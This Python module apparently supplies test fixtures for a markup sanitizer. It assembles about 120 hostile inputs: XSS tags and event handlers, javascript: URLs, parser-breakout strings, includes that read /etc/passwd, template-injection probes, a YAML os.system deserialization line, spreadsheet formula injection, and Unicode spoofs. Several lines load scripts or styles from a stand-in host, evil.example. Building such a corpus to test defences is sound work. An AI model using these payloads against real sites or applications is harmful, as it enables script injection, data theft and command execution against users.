"""A hundred and twenty texts that would run, load or rewrite something if a page took them for more than text."""

from __future__ import annotations

from test_markup import HOSTILE

CALL = "alert(1)"
HANDLERS = (
    "onload",
    "onerror",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onanimationstart",
    "onbegin",
    "onpointerenter",
)
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    " javascript:",
    "data:text/html,",
    "vbscript:",
    "&#106;avascript:",
)
TAGS = (
    "<script>{c}</script>", "<ScRiPt >{c}</sCrIpT>", "<script src=//evil.example/x.js></script>", "<script/x>{c}</script>",
    "<scr<script>ipt>{c}</scr</script>ipt>", "<svg><script>{c}</script></svg>", "<svg/onload={c}>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>", "<svg><set attributeName=onmouseover to={c}>",
    "<svg><foreignObject><iframe srcdoc='<script>{c}</script>'></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={c}>#x'/></svg>", "<math><maction actiontype=statusline href='javascript:{c}'>x",
    "<math><mglyph><style><img src=x onerror={c}>", "<img src=x onerror={c}>", "<img/src/onerror={c}>", "<image href=x onerror={c}>",
    "<video><source onerror={c}></video>", "<audio src=x onerror={c}>", "<body onload={c}>", "<input autofocus onfocus={c}>",
    "<select autofocus onfocus={c}>", "<details open ontoggle={c}>", "<marquee onstart={c}>", "<iframe src='javascript:{c}'>",
    "<iframe srcdoc='<script>{c}</script>'>", "<object data='javascript:{c}'>", "<embed src='javascript:{c}'>",
    "<form action='javascript:{c}'><button>x</button></form>", "<button formaction='javascript:{c}'>x</button>",
    "<meta http-equiv=refresh content='0;url=javascript:{c}'>", "<base href='//evil.example/'>", "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css';</style>", "<style>*{{background:url(//evil.example/y)}}</style>",
    "<template><script>{c}</script></template>", "<noscript><p title='</noscript><img src=x onerror={c}>'>", "<xmp><img src=x onerror={c}></xmp>",
    "<textarea><img src=x onerror={c}></textarea>", "<title><img src=x onerror={c}></title>", "<plaintext><img src=x onerror={c}>",
    "<!--><img src=x onerror={c}>-->", "<!-- --!><img src=x onerror={c}>", "<![CDATA[<img src=x onerror={c}>]]>", "<?xml version='1.0'?><x onclick={c}>",
    "</p><img src=x onerror={c}>", "</td></tr></table><img src=x onerror={c}>", "</code></pre><img src=x onerror={c}>", "</a><img src=x onerror={c}>",
    "'><img src=x onerror={c}>", '"><img src=x onerror={c}>', "`><img src=x onerror={c}>", "--><img src=x onerror={c}>", "]]><img src=x onerror={c}>",
)  # fmt: skip
MARKDOWN = (
    "[x]({s}{c})", "![x]({s}{c})", "<{s}{c}>", "[x]: {s}{c}", "[x][1]\n[1]: {s}{c}", "![x][1] {{: onerror={c} }}", "**x**{{: onclick={c} }}",
    "# x {{: onclick={c} }}", "```\n</code></pre><img src=x onerror={c}>\n```", "| a | b |\n|---|---|\n| <img src=x onerror={c}> | x |",
    "--8<-- '/etc/passwd'", "{{{{ config }}}} {{% include '/etc/passwd' %}}", "${{7*7}} #{{7*7}} <%= 7*7 %>", "---\ntitle: x\ntemplate: ../../x\n---",
    "!!python/object/apply:os.system ['x']", "&lt;img src=x onerror={c}&gt;", "&#60;img src=x onerror={c}&#62;", "\\u003cimg src=x onerror={c}\\u003e",
)  # fmt: skip
SPOOFS = ("Pass\u202e)1(trela", "\u2066x\u2069\u200b\u200d", "x\u0000y\u0007z", "\ufeff\u00ad<b\u200b>x</b>", "=cmd|' /C calc'!A1", "+1+1", "@SUM(1)", "-2+3",
    "<!channel> <@U1>", "<http://evil.example|x>", "[TOC]", "*[x]: alert(1)", "/// html | script", "{{: style='position:fixed' }}", "&NewLine;javascript:alert(1)",
    "$\\href{javascript:alert(1)}{x}$", "%3Cscript%3Ealert(1)%3C/script%3E", "<x onclick=alert(1) style=position:fixed;inset:0>x", "\u0430lert(1)<wbr onclick=alert(1)>", "<a ping=//evil.example href=x>x</a>",
)  # fmt: skip


def payloads() -> list[str]:
    """All of them, each once, in a fixed order."""
    found = [*HOSTILE, *(text.format(c=CALL) for text in TAGS)]
    found += [f'x" {handler}="{CALL}" y="' for handler in HANDLERS]
    found += [f"<a href='{scheme}{CALL}'>x</a>" for scheme in SCHEMES]
    found += [text.format(s="javascript:", c=CALL) for text in MARKDOWN]
    return list(dict.fromkeys((*found, *SPOOFS)))
